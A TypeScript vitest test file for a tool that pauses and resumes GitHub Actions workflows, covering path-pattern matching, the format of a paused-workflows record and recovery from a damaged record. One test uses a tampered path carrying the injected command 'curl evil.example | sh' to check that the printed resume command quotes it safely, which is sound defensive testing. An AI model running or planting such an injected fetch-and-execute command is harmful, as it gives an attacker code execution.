import { expect, test } from "vitest";
import {
  planPause,
  resumeCommands,
  resumeStalePause,
} from "../../../../src/actions/deploy-hub/pause/pause-workflows.ts";
import { githubServer } from "../../../../src/github/api/github-context.ts";
import type { LogGroup } from "../../../../src/github/log.ts";
import { formatPausedRecord, PAUSED_RECORD, parsePausedRecord } from "../../../../src/lake/journal/paused-workflows.ts";
import { memoryStore } from "../../../worlds/lake-model/memory-store.ts";

const FOLDER = ".github/workflows";
const WORKFLOWS = [
  { id: 1, path: `${FOLDER}/hub-ingest.yml`, state: "active" },
  { id: 2, path: `${FOLDER}/hub-schedule.yml`, state: "disabled_manually" },
  { id: 3, path: `${FOLDER}/hub-deploy.yml`, state: "active" },
  { id: 4, path: `${FOLDER}/ci.yml`, state: "active" },
  { id: 5, path: `${FOLDER}/my-hub-ingest.yml`, state: "active" },
  { id: 6, path: `${FOLDER}/hub-ingest.yaml`, state: "active" },
];

const CASES = [
  { patterns: ["hub-*.yml"], pauses: [1] },
  { patterns: ["hub-*.yml", "hub-*.yaml"], pauses: [1, 6] },
  { patterns: [`${FOLDER}/hub-ingest.yml`], pauses: [1] },
  { patterns: ["HUB-INGEST.yml"], pauses: [1] },
  { patterns: ["*"], pauses: [1, 4, 5, 6] },
  { patterns: ["hub-ingestXyml"], pauses: [] },
  { patterns: ["(a+)+$", "hub[.yml"], pauses: [] },
  { patterns: [], pauses: [] },
];

test.each(CASES)("$patterns pauses matching active workflows except the running one", ({ patterns, pauses }) => {
  const planned = planPause(WORKFLOWS, { patterns, ownPath: `${FOLDER}/hub-deploy.yml` });
  expect(planned.map(({ id }) => id)).toEqual(pauses);
});

test("a record survives formatting and parsing", () => {
  const record = {
    repository: "contoso/costs",
    workflows: [{ id: 7, path: `${FOLDER}/hub-ingest.yml` }],
    run: "https://github.com/contoso/costs/actions/runs/1",
    since: "2026-11-21T00:00:00.000Z",
  };
  expect(parsePausedRecord(formatPausedRecord(record))).toEqual(record);
});

test("quotes the paths of a tampered record, so that the printed command runs nothing else", () => {
  const workflows = [{ id: 7, path: `${FOLDER}/x.yml; curl evil.example | sh` }];
  const record = { repository: "contoso/costs", workflows, run: undefined, since: "" };
  expect(resumeCommands(record, githubServer("https://ghe.contoso.com"))).toEqual([
    "gh workflow enable --repo ghe.contoso.com/contoso/costs -- 'x.yml; curl evil.example | sh'",
  ]);
});

test.each(["", "{", "[]", "null", '{"repository": "a/b"}', '{"repository": "a/b", "workflows": [{"id": "1; x"}]}'])(
  "ignores the invalid record %s",
  (text) => {
    expect(parsePausedRecord(text)).toBeUndefined();
  },
);

test("warns about a damaged record because workflows may still be disabled", async () => {
  const config = memoryStore("config");
  config.put(PAUSED_RECORD, "{");
  const log = {} as LogGroup;
  const [server, repository] = [githubServer(undefined), "contoso/costs"];
  const notices = await resumeStalePause({ api: undefined, config, repository, server, log });
  expect(notices).toMatchObject([{ code: "JournalDamaged", remedy: expect.stringContaining("gh workflow enable") }]);
});
